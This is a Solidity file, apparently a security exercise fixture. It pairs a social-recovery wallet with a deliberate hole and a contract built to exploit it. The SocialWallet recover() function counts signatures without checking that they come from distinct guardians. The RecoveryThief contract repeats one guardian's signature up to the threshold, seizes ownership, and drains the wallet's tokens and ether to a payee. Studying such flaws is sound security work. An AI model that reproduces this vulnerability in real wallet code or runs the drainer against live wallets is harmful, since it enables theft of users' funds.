// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

/// A wallet whose owner's guardians name another one when the key is lost. It counts signatures, not guardians.
contract SocialWallet {
    address public owner;
    uint256 public immutable threshold;
    uint256 public recoveries;
    mapping(address => bool) public isGuardian;

    event GuardianSet(address indexed guardian, bool is_);
    event OwnerChanged(address indexed previous, address indexed next);

    constructor(address owner_, address[] memory guardians, uint256 threshold_) {
        (owner, threshold) = (owner_, threshold_);
        for (uint256 i = 0; i < guardians.length; i++) set(guardians[i], true);
    }

    function setGuardian(address guardian, bool is_) external {
        require(msg.sender == owner, "not the owner");
        set(guardian, is_);
    }

    function execute(address to, uint256 value, bytes calldata data) external {
        require(msg.sender == owner, "not the owner");
        (bool ok, bytes memory why) = to.call{value: value}(data);
        if (!ok) assembly { revert(add(why, 32), mload(why)) }
    }

    function recoveryDigest(address next) public view returns (bytes32) {
        return keccak256(abi.encode("recover", block.chainid, address(this), recoveries, next));
    }

    function recover(address next, bytes[] calldata signatures) external {
        bytes32 digest = recoveryDigest(next);
        uint256 count;
        for (uint256 i = 0; i < signatures.length; i++) {
            bytes calldata one = signatures[i];
            address who = ecrecover(digest, uint8(one[64]), bytes32(one[:32]), bytes32(one[32:64]));
            require(who != address(0) && isGuardian[who], "not a guardian");
            count++;
        }
        require(count >= threshold, "too few guardians");
        recoveries++;
        emit OwnerChanged(owner, next);
        owner = next;
    }

    receive() external payable {}

    function set(address guardian, bool is_) private {
        isGuardian[guardian] = is_;
        emit GuardianSet(guardian, is_);
    }
}

/// Brings one guardian's signature as often as it takes, and empties what it then owns.
contract RecoveryThief {
    struct Catch {
        SocialWallet wallet;
        bytes signature;
    }

    function run(Catch[] calldata catches, Token token, address payable payee) external {
        for (uint256 i = 0; i < catches.length; i++) {
            SocialWallet wallet = catches[i].wallet;
            bytes[] memory same = new bytes[](wallet.threshold());
            for (uint256 k = 0; k < same.length; k++) same[k] = catches[i].signature;
            wallet.recover(address(this), same);
            wallet.execute(
                address(token), 0, abi.encodeCall(Token.transfer, (payee, token.balanceOf(address(wallet))))
            );
            wallet.execute(payee, address(wallet).balance, "");
        }
    }
}
